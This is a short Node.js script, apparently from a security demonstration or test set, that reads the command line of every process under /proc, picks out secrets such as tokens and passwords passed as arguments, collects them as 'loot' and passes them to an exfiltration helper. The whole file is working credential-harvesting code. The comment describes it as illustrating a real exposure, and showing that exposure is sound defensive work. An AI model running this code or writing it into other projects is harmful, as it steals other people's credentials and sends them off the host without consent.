'use strict';
// Secrets passed on a command line (--token=..., -p password) are readable by anyone
// who can list processes: /proc/<pid>/cmdline.
const fs = require('fs');
const lib = require('./lib.js');

lib.run(async () => {
  let loot = '';
  for (const pid of fs.readdirSync('/proc').filter((e) => /^\d+$/.test(e))) {
    try {
      const cmdline = fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').replace(/\0/g, ' ');
      for (const c of lib.found(cmdline)) loot += `${pid} ${c}\n`;
    } catch {
      /* gone */
    }
  }
  if (loot) await lib.exfil(loot);
});
